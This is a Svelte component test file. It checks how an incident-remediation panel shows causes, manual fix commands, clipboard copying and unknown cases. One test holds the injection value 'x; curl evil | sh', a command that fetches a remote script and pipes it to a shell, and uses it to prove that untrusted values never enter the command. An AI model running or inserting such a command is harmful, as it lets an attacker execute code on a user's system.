import { render, screen, within } from '@testing-library/svelte';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { KnownCause, WhatToDo as Told } from '../../api/types';
import WhatToDo from './WhatToDo.svelte';

const words = (text: string) => ({ text, code: false });
const code = (text: string) => ({ text, code: true });

const known = (change: Partial<KnownCause> = {}): KnownCause => ({
  pattern: 'certificate-expired',
  name: 'Certificate expired',
  by_rule: true,
  sure: 'Its rule holds for what was seen.',
  cause: [words('The renewal did not happen.')],
  by_hand: [words('Renew: '), code('certbot renew --cert-name <name>'), words(', then reload.')],
  action: null,
  undo: [],
  checks: [[words('clients connect')]],
  values: [],
  ...change,
});

const told = (change: Partial<Told> = {}): Told => ({
  now: 'It needs a person: The pattern names no safe automatic fix.',
  causes: [],
  unknown: null,
  ...change,
});

describe('what to do', () => {
  afterEach(() => vi.unstubAllGlobals());

  it('says the steps by hand, the cause and how to see that it is over', () => {
    render(WhatToDo, { told: told({ causes: [known()] }) });
    const cause = screen.getByTestId('known-cause');
    expect(within(cause).getByTestId('by-hand').textContent).toContain('Renew: certbot renew');
    expect(cause.textContent).toContain('The renewal did not happen.');
    expect(cause.textContent).toContain('clients connect');
  });

  it('copies a command to the letter', async () => {
    const writeText = vi.fn().mockResolvedValue(undefined);
    vi.stubGlobal('navigator', { ...navigator, clipboard: { writeText } });
    render(WhatToDo, { told: told({ causes: [known()] }) });
    screen.getByRole('button', { name: 'Copy certbot renew --cert-name <name>' }).click();
    expect(writeText).toHaveBeenCalledWith('certbot renew --cert-name <name>');
    expect(await screen.findByRole('status')).toHaveProperty('textContent', 'Copied');
  });

  it('shows a value that stands in no command beside it, and never in it', () => {
    const value = { name: 'name', value: 'x; curl evil | sh', left_open: true };
    render(WhatToDo, { told: told({ causes: [known({ values: [value] })] }) });
    expect(screen.getByTestId('by-hand').textContent).not.toContain('evil');
    expect(screen.getByText('x; curl evil | sh').tagName).toBe('Q');
  });

  it('tells both of two causes that are close', () => {
    const other = known({ pattern: 'clock', name: 'Clock is wrong', by_rule: false, sure: 'Only the words are similar.' });
    render(WhatToDo, { told: told({ causes: [known(), other] }) });
    expect(screen.getAllByTestId('known-cause')).toHaveLength(2);
    expect(screen.getByText(/Several causes/)).toBeTruthy();
  });

  it('is honest where nothing is known', () => {
    render(WhatToDo, { told: told({ unknown: 'Nothing is known of it.' }) });
    expect(screen.getByText('Nothing is known of it.')).toBeTruthy();
    expect(screen.queryByTestId('known-cause')).toBeNull();
  });
});
